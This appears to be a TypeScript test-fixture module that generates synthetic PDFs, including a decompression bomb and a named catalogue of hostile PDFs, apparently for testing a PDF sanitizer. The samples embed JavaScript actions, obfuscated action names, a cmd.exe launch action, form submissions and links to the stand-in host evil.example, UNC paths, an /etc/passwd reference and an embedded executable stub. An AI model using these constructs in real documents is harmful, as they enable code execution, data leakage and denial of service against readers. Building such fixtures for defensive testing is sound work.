import { deflateSync } from 'node:zlib';

/** Bodies of objects by number; 1 is the catalog, 2 the pages, 3 the one page. */
export type PdfObjects = Readonly<Record<number, string>>;

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';

/** A PDF of one empty page, with what is given in place of its objects or beside them. */
export function pdfOf(objects: PdfObjects = {}, trailer = ''): Buffer {
  const all = { 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: PAGES, 3: PAGE, ...objects };
  let text = '%PDF-1.7\n';
  const offsets: string[] = [];
  for (const [number, body] of Object.entries(all)) {
    offsets.push(`${number} 1\n${String(text.length).padStart(10, '0')} 00000 n \n`);
    text += `${number} 0 obj\n${body}\nendobj\n`;
  }
  const size = Math.max(...Object.keys(all).map(Number)) + 1;
  const table = `xref\n0 1\n0000000000 65535 f \n${offsets.join('')}`;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text + table + end, 'latin1');
}

/** A PDF whose given objects stand in an object stream, packed as `filter` says. */
export function packedPdfOf(objects: PdfObjects, catalog: string, filter = 'FlateDecode'): Buffer {
  const bodies = Object.entries(objects);
  let [head, body] = ['', ''];
  for (const [number, text] of bodies) {
    head += `${number} ${body.length} `;
    body += `${text} `;
  }
  const packed = deflateSync(Buffer.from(head + body, 'latin1')).toString('latin1');
  const dict =
    `<< /Type /ObjStm /N ${bodies.length} /First ${head.length} ` +
    `/Filter /${filter} /Length ${packed.length} >>`;
  return pdfOf({ 1: catalog, 90: `${dict}\nstream\n${packed}\nendstream` });
}

/** An object stream of some kilobytes that unpacks to `megabytes`. */
export function pdfBomb(megabytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' ')).toString('latin1');
  const dict = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>`;
  return pdfOf({ 90: `${dict}\nstream\n${packed}\nendstream` });
}

/** A PDF whose catalog stands in its trailer itself, and so among no objects. */
function rootlessPdf(catalog: string): Buffer {
  const text = pdfOf().toString('latin1').replace('/Root 1 0 R', `/Root ${catalog}`);
  return Buffer.from(text, 'latin1');
}

/** What a hostile PDF may do, by name. */
export function activePdfs(): Readonly<Record<string, Buffer>> {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const opening = (action: string) => `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`;
  const page = (more: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] ${more} >>`;
  const link = (action: string) =>
    page(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`);
  const names = (tree: string) => `<< /Type /Catalog /Pages 2 0 R /Names << ${tree} >> >>`;
  const annotation = (entries: string) =>
    page(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]`);
  const web = (address: string) => `<< /S /URI /URI (${address}) >>`;
  const stream = (entries: string) => `<< ${entries} /Length 1 >>\nstream\na\nendstream`;
  const far = '(\\\\\\\\evil\\\\a)';
  const data = '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream';
  return {
    'a script at the opening': pdfOf({ 1: opening(script) }),
    'a script in an object of its own': pdfOf({ 1: opening('5 0 R'), 5: script }),
    'a script whose name is written in signs': pdfOf({ 1: opening('<< /#53 /Java#53cript >>') }),
    'a type of action in an object of its own': pdfOf({
      1: opening('<< /S 5 0 R >>'),
      5: '/JavaScript',
    }),
    'a script when a page is opened': pdfOf({ 3: page(`/AA << /O ${script} >>`) }),
    'a script behind another action': pdfOf({
      1: opening(`<< /S /Named /N /Print /Next [${script}] >>`),
    }),
    'scripts by name': pdfOf({ 1: names(`/JavaScript << /Names [(a) ${script}] >>`) }),
    'a script in an object stream': packedPdfOf({ 5: script }, opening('5 0 R')),
    'a script that nothing speaks of': pdfOf({ 5: script }),
    'a program to launch': pdfOf({ 3: link('<< /S /Launch /F (cmd.exe) >>') }),
    'a file of another machine': pdfOf({
      3: link('<< /S /GoToR /F (\\\\\\\\evil\\\\a) /D [0] >>'),
    }),
    'words sent elsewhere': pdfOf({ 3: link('<< /S /SubmitForm /F (http://evil.example/) >>') }),
    'a file inside': pdfOf({
      1: names('/EmbeddedFiles << /Names [(a.exe) 5 0 R] >>'),
      5: '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
      6: data,
    }),
    'a file inside that nothing names': pdfOf({ 6: data }),
    'a stream in another file': pdfOf({
      6: '<< /F (/etc/passwd) /Length 0 >>\nstream\n\nendstream',
    }),
    'a form of XML': pdfOf({
      1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>',
      6: '<< /Length 2 >>\nstream\n<>\nendstream',
    }),
    'a film': pdfOf({ 3: link('<< /S /Rendition /OP 0 >>') }),
    'a film without an action': pdfOf({
      3: annotation(`/Subtype /Movie /Movie << /F ${far} >>`),
    }),
    'a screen for a film': pdfOf({ 3: annotation('/Subtype /Screen /MK << >>') }),
    'a sound': pdfOf({ 3: annotation('/Subtype /Sound /Sound 5 0 R'), 5: stream('/R 8000') }),
    'a model with a script': pdfOf({
      3: annotation('/Subtype /3D /3DD 5 0 R'),
      5: stream('/Type /3D /Subtype /U3D /OnInstantiate 6 0 R'),
      6: stream(''),
    }),
    'a file at an address': pdfOf({
      3: annotation('/Subtype /FileAttachment /FS << /FS /URL /F (http://evil.example/a) >>'),
    }),
    'a page of another file': pdfOf({
      5: stream(`/Type /XObject /Subtype /Form /Ref << /F ${far} /Page 0 >>`),
    }),
    'a picture in another file': pdfOf({
      5: stream(`/Type /XObject /Subtype /Image /OPI << /1.3 << /F ${far} >> >>`),
    }),
    'an article of another file': pdfOf({ 3: link(`<< /S /Thread /F ${far} /D 0 >>`) }),
    'an address at the opening': pdfOf({ 1: opening(web('http://evil.example/')) }),
    'an address when a page is opened': pdfOf({
      3: page(`/AA << /O ${web('http://evil.example/')} >>`),
    }),
    'an address that is a script': pdfOf({ 3: link(web('javascript:alert\\(1\\)')) }),
    'an address that is a program': pdfOf({ 3: link(web('file:///c:/windows/calc.exe')) }),
    'an address of another machine': pdfOf({ 3: link(`<< /S /URI /URI ${far} >>`) }),
    'scripts behind every address': pdfOf({
      1: '<< /Type /Catalog /Pages 2 0 R /URI << /Base (javascript:) >> >>',
    }),
    'pages taken from the web': pdfOf({
      1: '<< /Type /Catalog /Pages 2 0 R /SpiderInfo << /V 1 /C [] >> >>',
    }),
    'a folder of files': pdfOf({
      1: '<< /Type /Catalog /Pages 2 0 R /Collection << /View /H >> >>',
    }),
    'a catalog in the trailer': rootlessPdf(opening(script)),
    'a script in the trailer': pdfOf({}, `/Info << /Title (a) /X ${script} >>`),
    'a type of action two objects away': pdfOf({
      1: opening('<< /S 5 0 R >>'),
      5: '6 0 R',
      6: '/JavaScript',
    }),
  };
}
